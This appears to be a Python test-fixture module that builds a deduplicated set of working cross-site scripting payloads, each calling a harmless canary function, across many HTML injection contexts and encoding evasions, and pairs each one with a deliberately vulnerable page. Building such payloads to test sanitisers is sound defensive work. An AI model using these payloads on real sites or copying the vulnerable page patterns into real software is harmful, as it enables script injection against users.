"""Texts that run a script in a page that is careless in one way: vectors x places x codings, each with its number.

Each is alive: `Payload.careless` is the HTML of a page on which it runs (test_payloads.py has a browser run them all).
"""

import html
import json
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from itertools import product
from urllib.parse import quote, unquote

from markdown_it import MarkdownIt

# Elements that call by themselves once they are parsed. {}: the call.
_ELEMENTS = (
    "<img src=x onerror={}>",
    "<svg onload={}></svg>",
    "<script>{}</script>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<iframe src=javascript:{}></iframe>",
    "<iframe onload={}></iframe>",
    "<video><source onerror={} src=x></video>",
    "<details open ontoggle={}>x</details>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s /></svg>",
    "<style onload={}></style>",
    "<input type=image src=x onerror={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
)

# Ways to call the canary without blanks, quotes or angle brackets.
_CALLS = ("canary({})", "top.canary({})", "[{}].map(canary)", "self[/canary/.source]({})", "(0,canary)({})")

# Places that markup has to break out of first: what ends the place, and the careless page around it.
_PLACES = {
    "content": ("", "<p>{}</p>"),
    "quoted": ('">', '<a title="{}">x</a>'),
    "single": ("'>", "<a title='{}'>x</a>"),
    "unquoted": (" >", "<a title=x{}>x</a>"),
    "textarea": ("</textarea>", "<textarea>{}</textarea>"),
    "title": ("</title>", "<title>{}</title>"),
    "comment": ("-->", "<!-- {} -->"),
    "style": ("</style>", "<style>{}</style>"),
    "string": ("</script>", '<script>const x = "{}";</script>'),
    "noscript": ("</noscript>", "<noscript>{}</noscript>"),
}

# Texts that run where no markup is needed. {}: the call, in the second the payload.
_SCRIPTS = (
    ('";{};"', '<script>const x = "{}";</script>'),
    ("';{};'", "<script>const x = '{}';</script>"),
    ("`+{}+`", "<script>const x = `{}`;</script>"),
    ("${{{}}}", "<script>const x = `{}`;</script>"),
    ("*/{};/*", "<script>/* {} */</script>"),
    ("javascript:{}", '<iframe src="{}"></iframe>'),
    ("JaVaScRiPt:{}", '<iframe src="{}"></iframe>'),
    ("java\tscript:{}", '<iframe src="{}"></iframe>'),
    (" javascript:{}", '<iframe src="{}"></iframe>'),
    ("javascript:void%20{}", '<iframe src="{}"></iframe>'),
    ("x onerror={} ", "<img src={}>"),
    ('x" onerror="{}', '<img src="{}">'),
    ("x' onerror='{}", "<img src='{}'>"),
)


def _plain(text: str) -> str:
    return text


def _tags_in_capitals(text: str) -> str:
    return text.replace("<s", "<S").replace("<i", "<I").replace(" on", " oN")


def _other_blanks(text: str) -> str:
    return text.replace(" on", "\fon").replace(" src", "\tsrc")


def _entities(text: str) -> str:
    return html.escape(text)


def _numbers(text: str) -> str:
    return "".join(f"&#x{ord(each):x};" if each in "<>\"'&" else each for each in text)


def _percent(text: str) -> str:
    return quote(text, safe=" ()=[]")


def _json(text: str) -> str:
    return json.dumps(text)[1:-1].replace("<", "\\u003c").replace(">", "\\u003e")


def _wide(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e")


def _unseen(text: str) -> str:
    return text.replace("<", "<\u200b").replace("on", "o\u200bn")


def _from_json(text: str) -> str:
    decoded: str = json.loads(f'"{text}"')
    return decoded


def _normalised(text: str) -> str:
    return unicodedata.normalize("NFKC", text)


def _stripped(text: str) -> str:
    return text.replace("\u200b", "")


# How it is written, and what the careless page does before it uses it.
_CODINGS: tuple[tuple[Callable[[str], str], Callable[[str], str]], ...] = (
    (_plain, _plain),
    (_tags_in_capitals, _plain),
    (_other_blanks, _plain),
    (_entities, html.unescape),
    (_numbers, html.unescape),
    (_percent, unquote),
    (_json, _from_json),
    (_wide, _normalised),
    (_unseen, _stripped),
)


@dataclass(frozen=True)
class Payload:
    """number: what it calls the canary with. careless: HTML on which it runs."""

    number: int
    text: str
    careless: str


def make_payloads() -> list[Payload]:
    """All of them, always the same, no two alike."""
    made: dict[str, Payload] = {}
    for (before, template, page), (write, read) in product(_forms(), _CODINGS):
        number = len(made) + 1
        call = _CALLS[number % len(_CALLS)].format(number)
        text = write(before + template.format(call))
        made.setdefault(text, Payload(number, text, page.replace("{}", read(text))))
    return list(made.values())


def _forms() -> list[tuple[str, str, str]]:
    """What breaks out, what runs, and the page around it."""
    forms = [(before, element, page) for element, (before, page) in product(_ELEMENTS, _PLACES.values())]
    return [*forms, *(("", script, page) for script, page in _SCRIPTS)]


def rendered(markdown: str) -> str:
    """Markdown as a reader that lets HTML through shows it, as CommonMark allows."""
    made: str = MarkdownIt("commonmark", {"html": True}).render(markdown)
    return made
